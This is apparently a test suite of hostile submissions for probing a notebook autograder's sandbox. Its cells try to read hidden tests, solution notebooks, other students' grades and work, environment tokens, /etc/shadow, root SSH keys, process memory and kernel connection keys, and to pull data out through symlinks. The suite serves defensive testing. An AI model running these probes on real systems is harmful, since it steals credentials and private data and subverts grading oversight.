# Submissions that want to know what is not theirs: solutions, hidden tests, grades, other people's
# work, the grader's own memory and environment. `publish` shows whatever secret is in a value.

# %% solutions_folder: total
# The instructor's notebook, by its path and by looking for it everywhere.
import glob

for pattern in (COURSE, "/work", "/course", "/home", "/root", "/srv", "/mnt", "../../.."):
    for path in glob.glob(pattern + "/**/*.ipynb", recursive=True):
        publish(open(path, errors="replace").read())

# %% gradebook_read: total
# Other students' names and points.
import glob
import sqlite3

for path in (COURSE + "/gradebook.db", "../gradebook.db", "../../../gradebook.db"):
    try:
        rows = sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("SELECT * FROM student")
        publish(rows.fetchall())
        escaped("the gradebook was read")
    except sqlite3.Error:
        pass

# %% other_students: total
# What the others handed in, and what was graded of it.
import os

for folder in ("submitted", "autograded", "feedback"):
    for where, _, files in os.walk(f"{COURSE}/{folder}"):
        for name in files:
            publish(open(f"{where}/{name}", errors="replace").read())

# %% environment: total
# Tokens in the grader's environment, this process's and every other one's.
import glob
import os

publish(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        publish(open(path, errors="replace").read())
    except OSError:
        pass

# %% secret_files: total
# Files outside the course: planted secrets, keys, other homes, the machine's users.
import os

for path in (OUTSIDE + "/secret.txt", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history"):
    try:
        publish(open(path).read())
        escaped(f"{path} was read")
    except OSError:
        pass

# %% other_processes: total
# The files, roots and working folders of other processes, through /proc.
import glob

for process in glob.glob("/proc/[0-9]*"):
    for path in (f"{process}/root{COURSE}/gradebook.db", f"{process}/cwd/gradebook.db"):
        try:
            publish(open(path, "rb").read())
            escaped(f"{path} was read")
        except OSError:
            pass
    try:
        publish(open(f"{process}/cmdline").read())
    except OSError:
        pass

# %% own_memory: total
# The process's own memory, in which a forked template may have left something.
import re

with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        area = re.match(r"(\w+)-(\w+) rw", line)
        if area and not line.rstrip().endswith(".so"):
            start, end = (int(part, 16) for part in area.groups())
            for place in range(start, min(end, start + 2**26), 2**22):
                try:
                    memory.seek(place)
                    publish(memory.read(min(2**22, end - place)))
                except (OSError, ValueError, OverflowError):
                    break

# %% foreign_memory: total
# The memory of every other process that can be seen: the watcher, the template, the judge.
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/proc/[0-9]*/mem"):
    if path != f"/proc/{os.getpid()}/mem":
        try:
            with open(path, "rb", 0) as memory, open(path.replace("mem", "maps")) as maps:
                for line in maps:
                    memory.seek(int(line.split("-")[0], 16))
                    publish(memory.read(2**20))
                    escaped(f"{path} was read")
        except (OSError, ValueError, OverflowError):
            pass
buffer = ctypes.create_string_buffer(64)
for process in range(1, 300):
    if process != os.getpid():
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
        remote = (ctypes.c_void_p * 2)(0x400000, 64)
        if libc.process_vm_readv(process, local, 1, remote, 1, 0) > 0:
            escaped(f"the memory of process {process} was read")

# %% garbage_collector: total, evens
# Every object that the collector knows, in the cell and in the answer.
# Held by the judge.
import gc


def search():
    for thing in gc.get_objects():
        if isinstance(thing, (str, bytes, list, dict, tuple)):
            publish(thing)


search()


def total(numbers):
    search()


def evens(n):
    publish([gc.get_referrers(n), gc.get_referrers(evens)])


# %% frames: total, account
# The callers' frames: what they are called, their locals and globals, their sources.
# Held by the judge.
import inspect
import sys
import traceback


def look():
    frame = sys._getframe()
    while frame:
        publish([frame.f_locals, frame.f_globals, frame.f_code.co_consts])
        frame = frame.f_back
    for info in inspect.stack():
        publish(info.code_context)
    traceback.print_stack(limit=100)
    for frame in sys._current_frames().values():
        publish(frame.f_locals)


def total(numbers):
    look()


class Account:
    def __init__(self, *_):
        look()


# %% sources: total
# The text of the test's cell: in the shell's history, in linecache, in its compiled code.
# Held by the judge.
import gc
import linecache
import types


def total(numbers):
    publish(get_ipython().user_ns)
    publish(linecache.cache)
    publish(list(get_ipython().history_manager.get_range(raw=True, output=True)))
    for code in gc.get_objects():
        if isinstance(code, types.FunctionType):
            publish(code.__code__.co_consts)


# %% warnings_and_dumps: total
# A warning that quotes its caller's line; a dump of all threads.
# Held by the judge.
import faulthandler
import sys
import warnings


def total(numbers):
    for level in range(1, 12):
        warnings.warn("look", stacklevel=level)
    with open("dump.txt", "w") as file:
        faulthandler.dump_traceback(file, all_threads=True)
    publish(open("dump.txt").read())
    sys.stderr.write(str(sys._current_exceptions()))


# %% comparison_spies: total, account, sign
# Objects that tell what they are compared with, by every operation there is.
# Held by the judge.
class Spy:
    def __getattr__(self, name):
        if name.startswith("__array"):
            raise AttributeError(name)
        return self


def spy(name):
    def method(self, *others, **more):
        publish([others, more])
        return NotImplemented

    return method


for name in "eq ne lt le gt ge sub rsub add radd mul rmul truediv contains and or rand ror".split():
    setattr(Spy, f"__{name}__", spy(name))


def total(numbers):
    return Spy()


sign = total


class Account:
    deposit = withdraw = lambda *_: None
    balance = Spy()

    def __init__(self, *_):
        pass


# %% array_spies: normalize
# The same for arrays: ufuncs and functions give away what they are called with.
# Held by the judge.
class Watching(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        publish([repr(value) for value in inputs])
        return NotImplemented

    def __array_function__(self, function, types, args, kwargs):
        publish(repr(args))
        return NotImplemented

    def __array_finalize__(self, other):
        publish(other)


def normalize(x):
    return x.view(Watching)


# %% spy_in_numpy: normalize
# NumPy's functions, if the test's run here, hand over both sides.
# Held by the judge.
def telling(function):
    def tell(*args, **kwargs):
        publish(args)
        return function(*args, **kwargs)

    return tell


np.allclose, np.array_equal = telling(np.allclose), telling(np.array_equal)
np.testing.assert_allclose = telling(np.testing.assert_allclose)


def normalize(x):
    return x / np.sqrt(2 * np.sum(x**2))


# %% callback: train
# The function that a test passes in: its globals, code, closure, defaults, attributes, doc.
# Held by the judge.
import gc
import inspect


def train(x, y, epochs, on_epoch):
    for name in dir(on_epoch) + ["__globals__", "__code__", "__closure__", "__defaults__"]:
        thing = getattr(on_epoch, name, None)
        publish(thing)
        for inner in dir(thing):
            publish(getattr(thing, inner, None))
    publish(vars(on_epoch))
    publish(gc.get_referents(on_epoch))
    publish(inspect.getclosurevars(on_epoch))
    publish(inspect.getsource(on_epoch))


# %% callback_errors: train
# The test's function is called so that it fails: does its traceback tell more than it should?
# Held by the judge.
import traceback


def train(x, y, epochs, on_epoch):
    for args in ((), (1, 2, 3, 4), (on_epoch, on_epoch)):
        try:
            on_epoch(*args)
        except BaseException as error:
            publish(traceback.format_exc())
            while error:
                publish([error.args, vars(error), getattr(error, "__notes__", 0)])
                trace = error.__traceback__
                while trace:
                    publish(trace.tb_frame.f_locals)
                    trace = trace.tb_next
                error = error.__context__ or error.__cause__
    return 0


# %% test_names: total
# Names that the test's own cell may have set in the student's notebook.
# Held by the judge.
def total(numbers):
    for name in ("hidden_word", "expected", "seen", "secret", "remember", "losses", "cases"):
        publish(globals().get(name))


result = cases = seen = secret = hidden_word = None

# %% earlier_errors: evens
# What was raised in other questions: the last exception, its traceback and context.
# Held by the judge.
import sys


def evens(n):
    for name in ("last_exc", "last_value", "last_traceback"):
        trace = getattr(sys, name, None)
        trace = getattr(trace, "__traceback__", trace)
        while trace:
            publish([trace.tb_frame.f_locals, trace.tb_frame.f_globals])
            trace = trace.tb_next
    publish(get_ipython().user_ns.get("_oh"))


# %% error_pages: total
# Errors whose reports quote the line that called: a traceback on stderr, in a message, in HTML.
# Held by the judge.
import sys
import traceback


class Quoting(Exception):
    def __str__(self):
        return "".join(traceback.format_stack())

    def _render_traceback_(self):
        return [str(self)]


def total(numbers):
    sys.stderr.write("".join(traceback.format_stack()))
    raise Quoting


# %% connection_files: total
# The kernel's connection file, its key, and the folders it lies in.
import glob
import json
import os

from ipykernel.connect import get_connection_file

path = get_connection_file()
publish(open(path).read())
folder = path.rsplit("/", 1)[0]
for pattern in (f"{folder}/../*", f"{folder}/../*/*", "/tmp/*", "/tmp/*/*", "/run/**"):
    for other in glob.glob(pattern, recursive=True):
        if other.endswith(".json") and not os.path.samefile(other, path):
            if json.loads(open(other).read()).get("key"):
                escaped(f"another kernel's key was read in {other}")

# %% sockets: total
# Every Unix socket that the kernel's table names, and every path in the folders nearby.
import glob
import re
import socket

names = re.findall(r"(@\S+|/\S+)$", open("/proc/net/unix").read(), re.M)
names += glob.glob("/tmp/**", recursive=True) + glob.glob(OUTSIDE + "/**", recursive=True)
for name in names:
    try:
        with socket.socket(socket.AF_UNIX) as link:
            link.settimeout(0.1)
            link.connect("\0" + name[1:] if name[0] == "@" else name)
            publish(link.recv(10_000))
    except OSError:
        pass

# %% inherited_files: total
# Files, folders and sockets that are still open from whoever started this process.
import os

for number in os.listdir("/proc/self/fd"):
    try:
        path = os.readlink(f"/proc/self/fd/{number}")
        if os.path.isdir(f"/proc/self/fd/{number}"):
            inside = os.open(
                f"../../../../../../..{COURSE}/gradebook.db", os.O_RDONLY, dir_fd=int(number)
            )
            escaped(f"the gradebook was opened from {path}")
        elif path.startswith("/") and not path.startswith(("/dev", "/proc")):
            publish(os.pread(int(number), 10**6, 0))
    except (OSError, ValueError):
        pass

# %% course_modules: total
# The grader's own modules, if they are there: what they remember, what they can be asked to do.
import sys

for name, module in list(sys.modules.items()):
    if name.startswith(("autograder", "course", "nbgrader")):
        for thing in vars(module).values():
            publish(thing)
            if hasattr(thing, "__dict__"):
                publish(vars(thing))

# %% nbgrader_api: total
# nbgrader's own interface, asked for everything.
try:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{COURSE}/gradebook.db") as book:
        publish([student.id for student in book.students])
        escaped("the gradebook was opened")
except BaseException:
    pass

# %% linked_answers: total
# Links in the working folder, for a grader that copies what lies there.
import os

for number, target in enumerate((COURSE + "/gradebook.db", OUTSIDE + "/secret.txt", "/etc/passwd")):
    os.symlink(target, f"plain_{number}.csv")
    os.symlink(target, f"/tmp/{number}.ipynb")
from IPython.display import FileLink, Image, display

display(FileLink("plain_0.csv"))
publish(open("plain_1.csv").read())

# %% left_over: total
# What submissions before this one left in memory or in shared places.
import glob
import os

for folder in ("/dev/shm", "/tmp", "/var/tmp", ".", os.path.expanduser("~"), "/run"):
    for path in glob.glob(folder + "/**", recursive=True):
        if MARK[:16] in path and MARK not in path:
            escaped(f"another submission's {path} is here")
        try:
            publish(open(path, "rb").read(10**6)) if os.path.isfile(path) else None
        except OSError:
            pass

# %% argument_memory: train
# The memory around an array that the test passes, and what an answer's array is a view of.
# Held by the judge.
import ctypes


def train(x, y, epochs, on_epoch):
    base = x
    while base is not None:
        publish(base)
        base = getattr(base, "base", None)
    publish(ctypes.string_at(x.ctypes.data - 2048, 4096))
    return 0


# %% default_values: train
# What the test's function has by default, and all else that its signature tells, kept for an error.
import inspect

seen = []


def train(x, y, epochs, on_epoch):
    w = 0.0
    for epoch in range(epochs):
        on_epoch(epoch, float(np.mean((w * x - y) ** 2)))
        w -= 0.1 * float(np.mean(2 * (w * x - y) * x))
    told = [inspect.signature(on_epoch), on_epoch.__defaults__, on_epoch.__kwdefaults__]
    told += [on_epoch.__annotations__, on_epoch.__doc__, on_epoch.__qualname__, vars(on_epoch)]
    if epochs == 20:
        return w
    raise ValueError(repr(told))


# %% own_numbers: train
# The judge is asked for every number it may have shown, and for the attributes of what is there.
def train(x, y, epochs, on_epoch):
    from autograder.guest.guest import Door

    w, told = 0.0, []
    for epoch in range(epochs):
        on_epoch(epoch, float(np.mean((w * x - y) ** 2)))
        w -= 0.1 * float(np.mean(2 * (w * x - y) * x))
    if epochs == 20:
        return w
    for number in range(5):
        for name in ("__globals__", "__closure__", "__defaults__", "__code__", "secret"):
            try:
                told.append(Door.guest._asked("object", (number, "getattr", (name,), {})))
            except BaseException as error:
                told.append(error)
        for odd in ("getattr", "__getattribute__", "__dir__", "__reduce__", "__str__", "__repr__"):
            try:
                told.append(Door.guest._asked("object", (number, odd, (), {})))
            except BaseException as error:
                told.append(error)
    raise ValueError(repr(told))
